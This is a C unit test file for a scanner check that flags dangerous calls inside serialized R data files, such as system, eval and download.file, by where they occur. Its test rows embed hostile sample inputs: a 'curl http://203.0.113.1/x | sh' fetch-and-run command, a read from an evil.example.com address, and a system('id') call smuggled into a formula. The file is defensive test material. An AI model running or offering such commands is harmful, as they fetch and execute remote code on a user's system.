/* The check "r-code": the same call in different places, and names by what they reach. */
#include "support/cm.h"

#include "check/rcode.h"
#include "scan/pipeline.h"
#include "support/events.h"

#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static const struct {
	const char *package, *name;
	enum gh_r_reach reach;
} names[] = {
	{ "", "system", GH_R_EXECUTE },
	{ "base", "system2", GH_R_EXECUTE },
	{ "evil", "system", GH_R_EXECUTE },
	{ "processx", "run", GH_R_EXECUTE },
	{ "", "run", GH_R_UNKNOWN },
	{ "", "download.file", GH_R_CONTACT },
	{ "", "unlink", GH_R_DELETE },
	{ "", "writeLines", GH_R_WRITE },
	{ "", "eval", GH_R_EVALUATE },
	{ "", "readRDS", GH_R_CHANGE },
	{ "stats", "rnorm", GH_R_HARMLESS },
	{ "", "+", GH_R_HARMLESS },
	{ "", "foo", GH_R_UNKNOWN },
	{ "", "", GH_R_UNKNOWN },
	{ "", "c list", GH_R_UNKNOWN },
	{ "", "a name that is longer than any function of R has ever had, by far", GH_R_UNKNOWN },
};

static void by_name(void **st)
{
	(void)st;
	for (size_t i = 0; i < GH_ROWS(names); i++)
		if (gh_r_reach(gh_span_str(names[i].package), gh_span_str(names[i].name)) != names[i].reach)
			fail_msg("%s::%s", names[i].package, names[i].name);
}

/* ---- by place ---- */

struct seen {
	char ids[400];
	enum gh_verdict worst;
};

static void on_finding(void *arg, const struct gh_rule *rule, struct gh_range at, bool ranged, const char *member,
		       const char *detail)
{
	struct seen *s = arg;
	(void)at, (void)ranged, (void)member, (void)detail;
	if (strncmp(rule->id, "GH-RC-", 6) != 0)
		return; /* an address in a command is a matter of other checks */
	if (rule->effect > s->worst)
		s->worst = rule->effect;
	if (strstr(s->ids, rule->id) == NULL && strlen(s->ids) + strlen(rule->id) + 2 < sizeof s->ids)
		(void)snprintf(s->ids + strlen(s->ids), sizeof s->ids - strlen(s->ids), "%s ", rule->id);
}
static void on_times(void *arg, size_t i, uint64_t times) { (void)arg, (void)i, (void)times; }
static int on_spill(void *arg)
{
	char name[] = "/tmp/gatehouse-test-XXXXXX";
	(void)arg;
	int fd = mkstemp(name);
	if (fd >= 0)
		(void)unlink(name);
	return fd;
}

static struct seen scan(struct gh_span in, const char *name)
{
	struct seen s = { { 0 }, GH_CLEAN };
	struct gh_pipe_host host = { .arg = &s, .finding = on_finding, .times = on_times, .spill = on_spill };
	struct gh_limits lim = gh_limits_default;
	struct gh_src_mem mem;
	struct gh_pipe_result r;
	struct gh_pipe *p = gh_pipe_new(&lim, &host);
	assert_non_null(p);
	gh_pipe_run(p, gh_src_mem(&mem, in), gh_span_str(name), &r);
	gh_pipe_free(p);
	if (r.understood != in.n && s.worst < GH_INCOMPLETE)
		s.worst = GH_INCOMPLETE;
	return s;
}

/* Text of R's own: a call of f("s") as data, put where `place` says. */
static void i4(struct gh_buf *b, uint32_t v)
{
	for (int k = 24; k >= 0; k -= 8)
		gh_buf_ch(b, (char)(v >> k & 0xff));
}
static void sym(struct gh_buf *b, const char *s) { i4(b, 1), i4(b, 9), i4(b, (uint32_t)strlen(s)), gh_buf_str(b, s); }
static void call(struct gh_buf *b, const char *f, const char *arg)
{
	i4(b, 6), sym(b, f), i4(b, 2), i4(b, 16), i4(b, 1), i4(b, 9), i4(b, (uint32_t)strlen(arg)), gh_buf_str(b, arg);
	i4(b, 254);
}
static void member_call(struct gh_buf *b, const char *name)
{
	i4(b, 6), i4(b, 6), sym(b, "$"), i4(b, 2), sym(b, "o"), i4(b, 2), sym(b, name), i4(b, 254), i4(b, 254);
}
static void variable(struct gh_buf *b, const char *name, uint32_t levels) { i4(b, 0x402 | levels << 12), sym(b, name); }
static void promise(struct gh_buf *b) { i4(b, 0x405), i4(b, 253), i4(b, 252); }
static void closure(struct gh_buf *b) { i4(b, 0x403), i4(b, 253), i4(b, 254); }

enum place { DATA, CLOSURE, PROMISE, ACTIVE, LINKED, MEMBER, NAMELESS };
static const struct {
	enum place place;
	const char *f, *arg, *ids; /* of findings; with a space behind each */
	enum gh_verdict verdict;
} rows[] = {
	{ DATA, "lm", "y ~ x", "", GH_CLEAN },
	{ DATA, "system", "id", "GH-RC-0003 ", GH_REVIEW },
	{ DATA, "eval", "x", "", GH_CLEAN },
	{ DATA, "writeLines", "x", "", GH_CLEAN },
	{ CLOSURE, "sum", "x", "", GH_CLEAN },
	{ CLOSURE, "eval", "x", "", GH_CLEAN },
	{ CLOSURE, "foo", "x", "GH-RC-0011 ", GH_REVIEW },
	{ CLOSURE, "library", "evil", "GH-RC-0011 ", GH_REVIEW },
	{ CLOSURE, "baseenv", "x", "GH-RC-0011 ", GH_REVIEW },
	{ CLOSURE, "requireNamespace", "MASS", "", GH_CLEAN },
	{ CLOSURE, "requireNamespace", "evil", "GH-RC-0011 ", GH_REVIEW },
	{ CLOSURE, "download.file", "x", "GH-RC-0010 ", GH_UNSAFE },
	{ CLOSURE, "sink", "x", "GH-RC-0010 ", GH_UNSAFE },
	{ CLOSURE, "readLines", "x", "GH-RC-0011 ", GH_REVIEW },
	{ CLOSURE, "readLines", "http://evil.example.com", "GH-RC-0010 GH-RC-0011 ", GH_UNSAFE },
	{ CLOSURE, "match.fun", "system", "GH-RC-0010 ", GH_UNSAFE },
	{ CLOSURE, "Vectorize", "system", "GH-RC-0010 ", GH_UNSAFE },
	{ CLOSURE, ".C", "system", "GH-RC-0010 ", GH_UNSAFE },
	{ CLOSURE, ".Call", "C_logit_link", "", GH_CLEAN },
	{ CLOSURE, "as.formula", "~ I(system('id'))", "GH-RC-0010 ", GH_UNSAFE },
	{ CLOSURE, "as.formula", "y ~ log(x)", "", GH_CLEAN },
	{ CLOSURE, "stop", "the system (of equations) is singular", "", GH_CLEAN },
	{ CLOSURE, "system", "curl http://203.0.113.1/x | sh", "GH-RC-0010 GH-RC-0006 ", GH_UNSAFE },
	{ PROMISE, "c", "x", "", GH_CLEAN },
	{ PROMISE, "foo", "x", "GH-RC-0002 ", GH_REVIEW },
	{ PROMISE, "system", "id", "GH-RC-0001 ", GH_UNSAFE },
	{ PROMISE, "eval", "x", "GH-RC-0001 ", GH_UNSAFE },
	{ PROMISE, "source", "x", "GH-RC-0001 ", GH_UNSAFE },
	{ PROMISE, "readRDS", "x", "GH-RC-0001 ", GH_UNSAFE },
	{ ACTIVE, "foo", "x", "", GH_CLEAN },
	{ ACTIVE, "assign", "x", "", GH_CLEAN },
	{ ACTIVE, "parse", "x", "GH-RC-0001 ", GH_UNSAFE },
	{ ACTIVE, "unlink", "x", "GH-RC-0001 ", GH_UNSAFE },
	{ ACTIVE, "writeLines", "x", "GH-RC-0003 ", GH_REVIEW },
	{ LINKED, "system", "x", "GH-RC-0010 GH-RC-0007 ", GH_UNSAFE },
	{ LINKED, "sum", "x", "", GH_CLEAN },
	{ MEMBER, "fit", "x", "", GH_CLEAN },
	{ MEMBER, "system", "x", "GH-RC-0001 ", GH_UNSAFE },
	{ NAMELESS, "system", "x", "GH-RC-0010 GH-RC-0007 ", GH_UNSAFE },
};

static void build(struct gh_buf *b, size_t i)
{
	gh_buf_put(b, "X\n\0\0\0\2\0\4\3\0\0\2\3\0", 14);
	if (rows[i].place == NAMELESS) /* a list of a function, and a variable */
		i4(b, 19), i4(b, 2), closure(b), call(b, rows[i].f, rows[i].arg);
	i4(b, 4), i4(b, 0), i4(b, 253);
	variable(b, "x", rows[i].place == ACTIVE ? 0x8000 : 0);
	switch (rows[i].place) {
	case DATA: break;
	case CLOSURE:
	case ACTIVE: closure(b); break;
	default: promise(b); break;
	}
	switch (rows[i].place) {
	case LINKED: /* a promise that calls c(), and c() */
		call(b, "c", "x"), variable(b, "c", 0), closure(b), call(b, rows[i].f, rows[i].arg);
		break;
	case MEMBER: member_call(b, rows[i].f); break;
	case NAMELESS: member_call(b, "fit"); break;
	default: call(b, rows[i].f, rows[i].arg); break;
	}
	i4(b, 254), i4(b, 254), i4(b, 254);
}

static void by_place(void **st)
{
	(void)st;
	unsigned wrong = 0;
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		struct gh_buf b = gh_buf(1 << 16);
		build(&b, i);
		struct seen s = scan(gh_buf_view(&b), "x.rds");
		if (strcmp(s.ids, rows[i].ids) != 0 || s.worst != rows[i].verdict) {
			print_message("row %zu: %s(\"%s\"): \"%s\", verdict %d\n", i, rows[i].f, rows[i].arg, s.ids,
				      s.worst);
			wrong++;
		}
		gh_buf_free(&b);
	}
	assert_int_equal(wrong, 0);
}

/* What R wrote: seeds, and where a function of a package stands. */
static void seeds(void **st)
{
	(void)st;
	static const struct {
		const char *path, *ids;
		enum gh_verdict verdict;
	} t[] = {
		{ "r-data/clean_promise.rds", "", GH_CLEAN },
		{ "r-data/clean_bytecode.rds", "", GH_CLEAN },
		{ "r-data/promise.rds", "GH-RC-0001 ", GH_UNSAFE },
		{ "r-data/promise_get.rds", "GH-RC-0001 ", GH_UNSAFE },
		{ "r-data/promise_unknown.rds", "GH-RC-0002 ", GH_REVIEW },
		{ "r-data/computed.rds", "GH-RC-0008 ", GH_REVIEW },
		{ "r-data/joined.rds", "GH-RC-0003 ", GH_REVIEW },
		{ "r-data/first.rda", "GH-RC-0009 ", GH_UNSAFE },
		{ "r-data/clean_do_call.rds", "", GH_CLEAN },
		{ "r-data/function.rds", "GH-RC-0010 ", GH_UNSAFE },
		{ "r-data/bytecode.rds", "GH-RC-0010 ", GH_UNSAFE },
		{ "r-data/active.rds", "GH-RC-0001 ", GH_UNSAFE },
		{ "r-lazyload/clean_xz.rdb", "", GH_CLEAN },
		{ "r-lazyload/hook.rdb", "GH-RC-0005 ", GH_REVIEW },
		{ "r-lazyload/clean_package.rdb", "GH-RC-0004 ", GH_CLEAN },
	};
	for (size_t i = 0; i < GH_ROWS(t); i++) {
		char path[200];
		(void)snprintf(path, sizeof path, "tests/fuzz/seeds/%s", t[i].path);
		struct gh_span in = gh_test_file(path);
		assert_non_null(in.p);
		struct seen s = scan(in, path);
		if (strstr(s.ids, t[i].ids) == NULL || s.worst != t[i].verdict)
			fail_msg("%s: \"%s\", verdict %d", t[i].path, s.ids, s.worst);
		free((void *)(uintptr_t)in.p);
	}
}

int main(void)
{
	const struct CMUnitTest t[] = { cmocka_unit_test(by_name), cmocka_unit_test(by_place),
					cmocka_unit_test(seeds) };
	return cmocka_run_group_tests_name("r-code", t, NULL, NULL);
}
